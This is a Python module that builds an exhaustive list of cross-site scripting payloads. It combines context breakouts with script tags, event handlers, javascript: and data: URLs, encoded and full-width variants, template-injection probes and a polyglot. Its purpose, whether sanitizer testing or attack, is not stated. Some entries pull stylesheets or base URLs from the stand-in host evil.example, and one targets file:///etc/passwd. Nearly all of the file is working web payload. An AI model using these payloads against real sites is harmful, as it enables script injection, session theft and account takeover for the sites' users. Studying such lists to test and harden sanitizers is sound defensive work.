# ruff: noqa: E501  attacks are not wrapped
"""Stored-markup attacks, built by combining: ways out of a place in a page, with things that run when they got out.

The forms are those of the OWASP filter evasion cheat sheet and of the HTML standard's own lists of elements and events.
"""

import base64
import html
from itertools import product
from urllib.parse import quote

CALL = "alert(1)"
BREAKOUTS = [
    "", '">', "'>", '"/>', "--></", "</title>", "</style>", "</script>", "</textarea>", "</noscript>", "</template>",
    "]]>", "</p></div>", "</a>", "</svg>", "</blockquote>", "\x00>", "<!--", "-->", "--!>", "&quot;>", "\\\">", "`>",
]  # fmt: skip
RUNNERS = [
    f"<script>{CALL}</script>", f"<ScRiPt >{CALL}</sCrIpT>", f"<script/x>{CALL}</script>", f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>", f"<svg/onload={CALL}>", f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>", f"<body onload={CALL}>", f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>", f"<video><source onerror={CALL}>", f"<audio src=x onerror={CALL}>",
    f"<iframe src=javascript:{CALL}>", f"<iframe srcdoc='<script>{CALL}</script>'>", f"<object data=javascript:{CALL}>",
    f"<embed src=javascript:{CALL}>", f"<a href=javascript:{CALL} id=go>x</a>", f"<form action=javascript:{CALL}><button>",
    f"<button formaction=javascript:{CALL}>x</button>", f"<math><mtext><script>{CALL}</script>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>", f"<marquee onstart={CALL}>", f"<isindex action=javascript:{CALL}>",
    f"<x onclick={CALL} style=position:fixed;inset:0>", f"<template><script>{CALL}</script></template>",
]  # fmt: skip
EVENTS = "click focus mouseover pointerover animationstart transitionend error load toggle beforetoggle wheel".split()
SCHEMES = [
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"java\nscript:{CALL}", f"\x01javascript:{CALL}",
    f" javascript:{CALL}", f"javascript&colon;{CALL}", f"vbscript:{CALL}", f"data:text/html,<script>{CALL}</script>",
    f"data:text/html;base64,{base64.b64encode(b'<script>alert(1)</script>').decode()}", "//evil.example/x",
    "file:///etc/passwd", "blob:https://evil.example/x", f"https://a.example/\"onmouseover={CALL}",
    f"https://a.example/'><svg onload={CALL}>", f"view-source:javascript:{CALL}", "http:///evil.example",
    f"feed:javascript:{CALL}", f"jar:javascript:{CALL}", "https://[::1", "http://a.example\\@evil.example/",
]  # fmt: skip


def payloads() -> list[str]:
    """Return all of them, each once, always in the same order."""
    combined = [out + run for out, run in product(BREAKOUTS, RUNNERS)]
    attributes = [f"{mark} on{event}={CALL} x={mark}" for mark, event in product(['"', "'", "", "`"], EVENTS)]
    encoded = [form(run) for run in RUNNERS for form in (html.escape, quote, lambda t: t.replace("<", "\\u003c"))]
    wide = [run.replace("<", "\uff1c").replace(">", "\uff1e") for run in RUNNERS]
    templates = [
        "{{7*7}}",
        "{% raw %}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{''.__class__}}",
        "{{constructor.constructor('alert(1)')()}}",
    ]
    polyglot = "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>"
    return list(dict.fromkeys([*combined, *attributes, *encoded, *wide, *SCHEMES, *templates, polyglot]))
